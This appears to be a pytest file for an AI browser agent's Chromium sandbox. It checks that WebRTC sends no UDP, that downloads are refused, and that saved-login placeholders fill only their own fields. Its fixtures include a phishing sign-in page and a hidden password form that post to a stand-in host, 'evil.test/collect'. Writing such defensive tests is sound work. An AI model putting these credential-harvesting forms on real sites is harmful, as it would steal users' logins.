"""Untrusted pages in the worker's real Chromium (ChromiumPool, the task's guard and egress
proxy; no stack): WebRTC cannot send UDP past the proxy, downloads are refused and nothing
is written, and saved-login placeholders go only into the field and form they belong to."""
import asyncio
import http.server
import os
import pathlib
import tempfile
import threading
import uuid

import pytest
import pytest_asyncio

from services.browser.agent import fields
from services.browser.agent.logins import Login, Logins, PlaceholderRefused
from services.browser.agent.signin import SignIn
from services.browser.chromium import ChromiumPool
from services.browser.guard import RequestGuard
from services.browser.settings import BrowserSettings

pytestmark = pytest.mark.skipif(not os.path.exists(BrowserSettings().chromium_path), reason="no Chromium")

PASSWORD = "s3cret-Bank-pass"
MARKER = f"download-marker-{uuid.uuid4().hex}"


class Site:
    """A real HTTP server serving `pages` (path -> (headers, body)), recording every request."""

    def __init__(self, pages: dict[str, tuple[list, bytes]]):
        self.pages = pages
        self.requests: list[tuple[str, str, bytes]] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self._answer(b"")

            def do_POST(self):
                self._answer(self.rfile.read(int(self.headers.get("Content-Length") or 0)))

            def _answer(self, body: bytes):
                site.requests.append((self.command, self.path, body))
                headers, content = site.pages.get(self.path.split("?")[0], ([], b"<title>Done</title>"))
                self.send_response(200)
                for name, value in [("Content-Type", "text/html"), ("Content-Length", str(len(content))), *headers]:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server.server_address[1]}"


BANK_PAGES = {
    "/download": ([], b'<title>Files</title><a id="get" href="/report.csv">report</a>'),
    "/report.csv": ([("Content-Type", "text/csv"), ("Content-Disposition", 'attachment; filename="report.csv"')],
                    MARKER.encode()),
    "/fields": ([], b"""<title>Fields</title>
<form action="/login" method="post">
  <input id="user" type="text" autocomplete="username"><input id="pass" type="password">
  <label>E-mail address <input id="mail" type="email"></label>
  <textarea id="comment" name="comment"></textarea><input id="search" type="text" name="q">
</form>
<form action="http://evil.test/collect" method="post"><input id="stolen" type="password"></form>"""),
    "/first": ([], b'<title>First</title><img src="/logo.gif"><a href="/second">on</a>'),
    "/second": ([], b'<title>Second</title><img src="/logo.gif">'),
    "/logo.gif": ([("Content-Type", "image/gif"), ("Cache-Control", "max-age=600")], b"GIF89a"),
    "/phish": ([], b"""<title>Sign in</title>
<form action="http://evil.test/collect" method="post"><input id="u" type="text" autocomplete="username">
<input id="p" type="password" name="password"><button type="submit">Sign in</button></form>"""),
}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def browser():
    """(open a fresh context, the bank site, the evil site); bank.test and evil.test are mapped hosts."""
    bank, evil = Site(BANK_PAGES), Site({})
    host_map = {"bank.test": bank.address, "evil.test": evil.address}
    pool = ChromiumPool(BrowserSettings().chromium_path, host_map, sandbox=os.geteuid() != 0)
    await pool.start()
    yield (lambda: pool.fresh_context(RequestGuard(host_map, set()))), bank, evil
    await pool.close()
    bank.server.shutdown()
    evil.server.shutdown()


async def until(condition, seconds: float = 15) -> None:
    async with asyncio.timeout(seconds):
        while not condition():
            await asyncio.sleep(0.05)


WEBRTC_JS = """async (port) => {
  const pc = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
  const candidates = [];
  pc.onicecandidate = (e) => { if (e.candidate && e.candidate.candidate) candidates.push(e.candidate.candidate); };
  pc.createDataChannel('leak');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((done) => {
    if (pc.iceGatheringState === 'complete') return done();
    pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && done();
    setTimeout(done, 8000);
  });
  pc.close();
  return candidates;
}"""


class UdpRecorder(asyncio.DatagramProtocol):
    def __init__(self):
        self.packets: list[bytes] = []

    def datagram_received(self, data, addr):
        self.packets.append(data)


async def test_webrtc_gathers_no_candidate_and_sends_no_udp(browser):
    open_context, _, _ = browser
    transport, stun = await asyncio.get_running_loop().create_datagram_endpoint(UdpRecorder, local_addr=("127.0.0.1", 0))
    try:
        async with open_context() as context:
            page = await context.new_page()
            await page.goto("http://bank.test/fields")
            candidates = await page.evaluate(WEBRTC_JS, transport.get_extra_info("sockname")[1])
        assert candidates == []
        assert stun.packets == []
    finally:
        transport.close()


async def test_a_cacheable_subresource_is_fetched_once_per_task(browser):
    """No Playwright route sits in front of a task's requests (a route turns Chromium's HTTP
    cache off): the second page of a task takes the logo from the cache, still through the
    egress proxy for everything it does fetch."""
    open_context, bank, _ = browser
    async with open_context() as context:
        page = await context.new_page()
        await page.goto("http://bank.test/first", wait_until="load")
        await page.click("text=on")
        await page.wait_for_url("http://bank.test/second")
        await page.wait_for_load_state("load")
    logos = [path for _, path, _ in bank.requests if path == "/logo.gif"]
    assert logos == ["/logo.gif"], bank.requests


def files_holding(marker: bytes) -> list[pathlib.Path]:
    """Files under the temp dir (Playwright's artifacts, Chromium's own) that hold `marker`."""
    found = []
    for root, _, names in os.walk(tempfile.gettempdir()):
        if "playwright" not in root and "chromium" not in root.lower() and "Download" not in root:
            continue
        for name in names:
            path = pathlib.Path(root, name)
            try:
                if path.is_file() and path.stat().st_size < 1_000_000 and marker in path.read_bytes():
                    found.append(path)
            except OSError:
                continue
    return found


async def test_a_download_is_refused_and_nothing_is_written(browser):
    open_context, bank, _ = browser
    async with open_context() as context:
        page = await context.new_page()
        downloads = []
        page.on("download", lambda download: downloads.append(download))
        await page.goto("http://bank.test/download")
        await page.click("#get")
        await until(lambda: any(path == "/report.csv" for _, path, _ in bank.requests))
        await until(lambda: downloads)
        assert "accept_downloads" in await downloads[0].failure()  # refused by the context
        assert page.url == "http://bank.test/download"
        assert files_holding(MARKER.encode()) == []


async def test_the_download_check_would_see_an_accepted_download(browser):
    """The control for the test above: the same click in a context that accepts downloads
    leaves the file where files_holding looks."""
    open_context, _, _ = browser
    async with open_context() as refusing:
        context = await refusing.browser.new_context(accept_downloads=True)
        try:
            page = await context.new_page()
            await page.goto("http://bank.test/download")
            async with page.expect_download() as info:
                await page.click("#get")
            download = await info.value
            assert await download.failure() is None
            assert files_holding(MARKER.encode()) != []
        finally:
            await context.close()
    assert files_holding(MARKER.encode()) == []  # Playwright removes it with the context


def bank_logins() -> Logins:
    return Logins([Login("bank.test", [], "alice", PASSWORD)])


@pytest.mark.parametrize("element, text, kind", [
    ("#user", "{{username}}", "username"), ("#mail", "{{username}}", "username"), ("#pass", "{{password}}", "password"),
])
async def test_placeholders_fill_the_fields_they_name(browser, element, text, kind):
    open_context, _, _ = browser
    async with open_context() as context:
        page = await context.new_page()
        await page.goto("http://bank.test/fields")
        field = await fields.describe(page.locator(element))
        assert field == fields.Field(kind, "bank.test", "http://bank.test/login")
        assert bank_logins().fill(text, field) in ("alice", PASSWORD)


@pytest.mark.parametrize("element, text", [
    ("#comment", "{{password}}"), ("#search", "{{password}}"), ("#search", "{{username}}"),
    ("#user", "{{password}}"), ("#stolen", "{{password}}"),
])
async def test_placeholders_are_refused_in_other_fields_and_forms_that_send_elsewhere(browser, element, text):
    open_context, _, _ = browser
    async with open_context() as context:
        page = await context.new_page()
        await page.goto("http://bank.test/fields")
        field = await fields.describe(page.locator(element))
        with pytest.raises(PlaceholderRefused):
            bank_logins().fill(text, field)


async def test_sign_in_never_submits_a_form_that_posts_elsewhere(browser):
    open_context, _, evil = browser
    async with open_context() as context:
        page = await context.new_page()
        await page.goto("http://bank.test/phish")
        signed_in = await SignIn(bank_logins(), report=None).handle(page, page.url, asks_login=True)
        assert signed_in is False
        assert await page.input_value("#p") == "" and await page.input_value("#u") == ""
    assert evil.requests == []
